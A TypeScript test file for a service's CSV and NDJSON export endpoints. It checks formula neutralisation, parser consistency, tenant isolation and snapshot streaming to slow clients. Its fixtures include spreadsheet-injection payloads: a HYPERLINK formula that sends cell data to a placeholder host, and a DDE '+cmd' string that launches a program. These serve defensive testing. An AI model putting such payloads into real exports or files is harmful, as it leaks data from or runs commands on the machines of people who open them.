import { parse } from 'csv-parse/sync';
import Papa from 'papaparse';
import { request as httpRequest } from 'node:http';
import { requiredAssistantSettings } from '../../src/testing/assistant.fixture';
import { TestApp, startTestApp } from '../support/test-app';

const HOSTILE = {
  formula: '=HYPERLINK("http://x.example/?"&A1,"click")',
  plus: '+cmd|" /C calc"!A0',
  at: '@SUM(1+1)',
  minus: '-2+3',
  amount: '-12.50',
  quoted: 'say "hi", then\r\nleave',
  unicode: 'Zoë ✓',
};

/** Reads an answer a little at a time, pausing between reads: a slow client. */
function readSlowly(
  url: string,
  token: string,
  accept: string,
  pauseMs: number,
  onFirstChunk: () => Promise<void>,
): Promise<{ status: number; headers: object; text: string }> {
  return new Promise((resolve, reject) => {
    const req = httpRequest(url, { headers: { authorization: `Bearer ${token}`, accept } }, (res) => {
      const chunks: Buffer[] = [];
      let first = true;
      res.on('data', (chunk: Buffer) => {
        chunks.push(chunk);
        res.pause();
        const go = first ? onFirstChunk() : new Promise((r) => setTimeout(r, pauseMs));
        first = false;
        void go.then(() => res.resume(), reject);
      });
      res.on('end', () => resolve({ status: res.statusCode!, headers: res.headers, text: Buffer.concat(chunks).toString('utf8') }));
      res.on('error', reject);
    });
    req.on('error', reject);
    req.end();
  });
}

/** docs/reports.md: calls and leads as CSV or NDJSON, streamed from one moment. */
describe('exports', () => {
  let t: TestApp;
  let token: string;
  let campaign: number;
  const get = (path: string, accept = 'text/csv') => fetch(`${t.url}${path}`, { headers: { authorization: `Bearer ${token}`, accept } });

  beforeAll(async () => {
    t = await startTestApp();
    ({ token } = await t.createUser());
    const assistant = (await t.request('POST', '/api/user/assistant', { token, body: requiredAssistantSettings })).body.data.id;
    campaign = (await t.request('POST', '/api/user/campaigns', { token, body: { name: 'Exported', assistant_id: assistant } })).body.data.id;
    await t.request('POST', '/api/user/lead', { token, body: { campaign_id: campaign, phone_number: '+12015554000', variables: HOSTILE } });
    await t.request('POST', '/api/user/lead', { token, body: { campaign_id: campaign, phone_number: '+12015554001', variables: { other: 'x' } } });
  });
  afterAll(() => t.close());

  it('round-trips hostile values through a CSV parser, with formula-like cells neutralised and plain numbers kept', async () => {
    const answer = await get(`/api/user/leads/export?campaign_id=${campaign}`);
    expect(answer.status).toBe(200);
    expect(answer.headers.get('content-type')).toBe('text/csv; charset=utf-8');
    expect(answer.headers.get('content-disposition')).toBe('attachment; filename="leads.csv"');
    const rows: Record<string, string>[] = parse(await answer.text(), { columns: true });
    expect(Object.keys(rows[0])).toEqual([
      'id',
      'campaign_id',
      'phone_number',
      'status',
      'attempts',
      'last_call_status',
      'last_called_at',
      'created_at',
      ...['amount', 'at', 'formula', 'minus', 'other', 'plus', 'quoted', 'unicode'].map((name) => `var_${name}`),
    ]);
    // Newest first.
    expect(rows.map((r) => r.phone_number)).toEqual(['+12015554001', '+12015554000']);
    const hostile = rows[1];
    expect(hostile).toMatchObject({
      var_formula: `'${HOSTILE.formula}`,
      var_plus: `'${HOSTILE.plus}`,
      var_at: `'${HOSTILE.at}`,
      var_minus: `'${HOSTILE.minus}`,
      var_amount: '-12.50',
      var_quoted: HOSTILE.quoted,
      var_unicode: HOSTILE.unicode,
      var_other: '',
      status: 'created',
      attempts: '0',
    });
    expect(rows[0]).toMatchObject({ var_other: 'x', var_formula: '' });
  });

  it('leaves no formula and no extra row for two independent CSV readers, and writes booleans as true/false', async () => {
    const assistant = (await t.request('POST', '/api/user/assistant', { token, body: requiredAssistantSettings })).body.data.id;
    const own = (await t.request('POST', '/api/user/campaigns', { token, body: { name: 'Injection', assistant_id: assistant } })).body.data.id;
    const variables = {
      tab: '\t=1+1',
      carriage: '\r=1+1',
      lone_cr: 'note\r=1+1',
      lone_lf: 'note\n@SUM(1)',
      crlf: 'a\r\n-1+1',
      yes: true,
      no: false,
    };
    const created = await t.request('POST', '/api/user/lead', { token, body: { campaign_id: own, phone_number: '+12015554100', variables } });
    expect(created.status).toBe(200);
    const text = await (await get(`/api/user/leads/export?campaign_id=${own}`)).text();
    const byCsvParse: string[][] = parse(text);
    const byPapa = Papa.parse<string[]>(text.replace(/\r\n$/, ''), { newline: '\r\n' }).data;
    for (const [reader, rows] of [
      ['csv-parse', byCsvParse],
      ['papaparse', byPapa],
    ] as const) {
      expect({ reader, rows: rows.length }).toEqual({ reader, rows: 2 });
      const row = Object.fromEntries(rows[0].map((column, i) => [column, rows[1][i]]));
      const formulas = Object.values(row).filter((cell) => /^[=+\-@\t\r]/.test(cell) && !/^[+-]?\d+(\.\d+)?$/.test(cell));
      expect({ reader, formulas }).toEqual({ reader, formulas: [] });
      expect({ reader, yes: row.var_yes, no: row.var_no, lone_cr: row.var_lone_cr }).toEqual({ reader, yes: 'true', no: 'false', lone_cr: variables.lone_cr });
      expect({ reader, tab: row.var_tab, carriage: row.var_carriage }).toEqual({ reader, tab: `'${variables.tab}`, carriage: `'${variables.carriage}` });
    }
  });

  it('answers NDJSON with the same columns when asked, values as they are', async () => {
    const answer = await get(`/api/user/leads/export?campaign_id=${campaign}`, 'application/x-ndjson');
    expect(answer.headers.get('content-type')).toBe('application/x-ndjson; charset=utf-8');
    const lines = (await answer.text())
      .trimEnd()
      .split('\n')
      .map((line) => JSON.parse(line));
    expect(lines).toHaveLength(2);
    expect(lines[1]).toMatchObject({ phone_number: '+12015554000', attempts: 0, var_formula: HOSTILE.formula, var_quoted: HOSTILE.quoted, var_other: null });
  });

  it('filters like the lists, and shows another organisation nothing', async () => {
    const completed = parse(await (await get(`/api/user/leads/export?campaign_id=${campaign}&status=completed`)).text(), { columns: true });
    expect(completed).toEqual([]);
    const stranger = await t.createUser();
    const theirs = await fetch(`${t.url}/api/user/leads/export`, { headers: { authorization: `Bearer ${stranger.token}`, accept: 'text/csv' } });
    expect((await theirs.text()).trim()).toBe('id,campaign_id,phone_number,status,attempts,last_call_status,last_called_at,created_at');
    const calls = await get('/api/user/calls/export?status=completed');
    expect((await calls.text()).split('\r\n')[0]).toBe(
      'id,campaign_id,lead_id,secondary_contact_id,client_phone_number,type,status,answered_by,duration,total_cost,recording_url,created_at,ended_at',
    );
    const bad = await get('/api/user/calls/export?status=sideways');
    expect([bad.status, ((await bad.json()) as { message: string }).message]).toEqual([422, 'Validation failed']);
    const noToken = await fetch(`${t.url}/api/user/calls/export`);
    expect(noToken.status).toBe(401);
  });

  it('streams to a slow client from one moment: leads added or deleted while it reads are not in it, and the service answers meanwhile', async () => {
    const { token: own } = await t.createUser();
    const assistant = (await t.request('POST', '/api/user/assistant', { token: own, body: requiredAssistantSettings })).body.data.id;
    const big = (await t.request('POST', '/api/user/campaigns', { token: own, body: { name: 'Big', assistant_id: assistant } })).body.data.id;
    const ids: number[] = [];
    // About 8 MB: more than the socket takes at once, so the reading waits on the client.
    for (let i = 0; i < 3000; i++) {
      const lead = { campaign_id: big, phone_number: `+1201666${String(i).padStart(4, '0')}`, variables: { note: 'x'.repeat(2500) } };
      ids.push((await t.request('POST', '/api/user/lead', { token: own, body: lead })).body.data.id);
    }
    let answeredMeanwhile = 0;
    const read = await readSlowly(`${t.url}/api/user/leads/export?campaign_id=${big}`, own, 'application/x-ndjson', 2, async () => {
      // Written after the export's first chunk left: none of it may show. The deleted lead is the
      // oldest, the export's last row: a reading that followed the store would leave it out.
      await t.request('POST', '/api/user/lead', { token: own, body: { campaign_id: big, phone_number: '+12016669999' } });
      expect((await t.request('DELETE', `/api/user/leads/${ids[0]}`, { token: own })).status).toBe(200);
      if ((await t.request('GET', '/api/user/me', { token: own })).status === 200) answeredMeanwhile++;
    });
    expect(read.status).toBe(200);
    const exported = read.text
      .trimEnd()
      .split('\n')
      .map((line) => JSON.parse(line).id as number);
    expect(exported).toEqual([...ids].reverse());
    expect(answeredMeanwhile).toBe(1);
  }, 120_000);
});
